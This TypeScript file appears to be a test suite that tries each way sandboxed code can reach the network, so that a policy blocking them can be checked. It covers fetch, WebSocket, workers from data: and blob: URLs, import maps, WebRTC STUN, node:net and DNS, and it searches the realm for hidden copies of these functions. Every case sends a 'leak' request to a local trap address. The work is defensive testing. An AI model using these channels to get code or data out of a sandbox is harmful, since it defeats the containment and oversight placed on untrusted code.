/** Ways to the network. The policy closes each of them; most are hidden too. */
import type { Attack } from '../attack.ts';
import { reaching } from '../compose.ts';
import { searchRealm } from './search-realm.ts';

const reach = reaching('network');
const get = 'return (await fetch(trap.http)).text();';
const nested = "'fetch(' + JSON.stringify(trap.http + '/nested') + ')'";

/** Calls what a search through everything reachable finds under the names, as a function and as a constructor. */
const callFound = (names: readonly string[], call: string): string =>
  `${searchRealm(names)}\nconst results = [];\nfor (const found of foundFunctions) { try { results.push(await (${call})(found)); } catch (error) {} }\nif (results.length === 0) throw new Error(foundFunctions.length + ' found'); return results.join();`;

export const network: readonly Attack[] = [
  reach('fetch', get),
  reach('fetch of the page’s own server', "return (await fetch(trap.site + '/leak')).text();"),
  reach(
    'XMLHttpRequest',
    "const request = new scope.XMLHttpRequest(); request.open('GET', trap.http, false); request.send(); return request.responseText;",
  ),
  reach(
    'WebSocket',
    "return new Promise((resolve, reject) => { const socket = new scope.WebSocket(trap.http.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; });",
  ),
  reach('EventSource', 'return new scope.EventSource(trap.http);'),
  reach('WebTransport', "return new scope.WebTransport(trap.http.replace('http', 'https')).ready;"),
  reach(
    'sendBeacon',
    "if (!navigator.sendBeacon(trap.http, 'leak')) throw new Error('not sent'); return 'sent';",
  ),
  reach('an image', 'const image = new scope.Image(); image.src = trap.http; return image;'),
  reach('import() of an address', 'return import(trap.http);'),
  reach('import() inside eval', "return (0, eval)('import(\"' + trap.http + '\")');"),
  reach(
    'import() inside a function made of text',
    "const Asynchronous = (async () => {}).constructor as any; return new Asynchronous('return import(\"' + trap.http + '\")')();",
  ),
  {
    theme: 'network',
    name: 'a static import of an address',
    app: "import 'http://127.0.0.1:9/leak.js';\nexport const app = 1;\n",
    checks: "test('it starts', { meta: { id: 'starts' } }, async () => { await startApp(); });",
    end: { state: 'broken', kinds: ['missing-module'] },
  },
  reach('importScripts', 'return scope.importScripts(trap.http);'),
  reach(
    'importScripts, found elsewhere in the realm',
    callFound(['importScripts'], '(found) => found.call(globalThis, trap.http)'),
  ),
  reach(
    'fetch, found elsewhere in the realm',
    callFound(['fetch'], '(found) => found.call(globalThis, trap.http)'),
  ),
  reach(
    'XMLHttpRequest, WebSocket and EventSource, found elsewhere in the realm',
    callFound(
      ['XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'WebSocketStream'],
      "(Found) => new Promise((resolve, reject) => { const made = new Found(trap.http.replace('http', 'ws')); made.onopen = resolve; made.onerror = reject; if (made.open) { made.open('GET', trap.http); made.onload = resolve; made.send(); } })",
    ),
  ),
  reach(
    'an import map',
    "const map = scope.document.createElement('script'); map.type = 'importmap'; map.textContent = JSON.stringify({ imports: { leak: trap.http } }); scope.document.head.append(map); return import('leak');",
  ),
  reach(
    'a worker from data:',
    `return new scope.Worker('data:text/javascript,' + encodeURIComponent(${nested}));`,
  ),
  reach(
    'a worker from blob:',
    `return new scope.Worker(URL.createObjectURL(new Blob([${nested}])), { type: 'module' });`,
  ),
  reach(
    'Worker and SharedWorker, found elsewhere in the realm',
    callFound(
      ['Worker', 'SharedWorker'],
      `(Found) => new Found('data:text/javascript,' + encodeURIComponent(${nested}))`,
    ),
  ),
  reach(
    'worker_threads',
    `const { Worker } = await import('node:worker_threads'); return new Worker(${nested}, { eval: true });`,
  ),
  reach(
    'a font',
    "const face = new scope.FontFace('leak', 'url(' + trap.http + ')'); return (await face.load()).status;",
  ),
  reach(
    'CSS',
    "const sheet = new scope.CSSStyleSheet(); sheet.replaceSync('@import url(' + trap.http + ');'); return sheet;",
  ),
  reach(
    'a form',
    "const form = scope.document.createElement('form'); form.action = trap.http; scope.document.body.append(form); form.submit(); return form;",
  ),
  reach(
    'WebRTC and its STUN packets',
    "const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + trap.udp }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => setTimeout(resolve, 300)); return peer.iceGatheringState;",
  ),
  // On loopback no name is looked up that could be counted, so what is shown is that nothing could ask for it.
  reach(
    'DNS prefetch',
    "const link = scope.document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//leak.example'; scope.document.head.append(link); return link;",
  ),
  reach(
    'a service worker',
    "return (navigator as any).serviceWorker.register('data:text/javascript,');",
  ),
  reach(
    'a notification with an icon',
    "return new scope.Notification('leak', { icon: trap.http });",
  ),
  reach(
    'WebAssembly that is streamed',
    'return WebAssembly.compileStreaming(fetch(trap.http) as any);',
  ),
  reach(
    'node:http',
    "const http = await import('node:http'); return new Promise((resolve, reject) => http.get(trap.http, resolve).on('error', reject));",
  ),
  reach(
    'node:net',
    "const net = await import('node:net'); const { port } = new URL(trap.http); return new Promise((resolve, reject) => { const socket = net.connect(Number(port), '127.0.0.1', () => resolve('connected')); socket.on('error', reject); });",
  ),
  reach(
    'node:dgram',
    "const { createSocket } = await import('node:dgram'); const [host, port] = trap.udp.split(':'); const socket = createSocket('udp4'); return new Promise((resolve, reject) => socket.send('leak', Number(port), host, (error) => (error ? reject(error) : resolve('sent'))));",
  ),
  reach(
    'node:dns',
    "const { resolve4 } = await import('node:dns/promises'); return resolve4('leak.example');",
  ),
  reach(
    'supertest and jose with an address of their own',
    "const { default: request } = await import('supertest'); const { createRemoteJWKSet } = await import('jose'); const failures = await Promise.allSettled([request(trap.http).get('/'), (createRemoteJWKSet(new URL(trap.http)) as any)({ alg: 'RS256', kid: '1' }, {})]); if (failures.every(({ status }) => status === 'rejected')) throw new Error('both refused'); return 'sent';",
  ),
  reach(
    'a source map',
    "return (0, eval)('new Error().stack\\n//# sourceMappingURL=' + trap.http + '/leak.map') ? Promise.reject(new Error('only a comment')) : 1;",
  ),
];
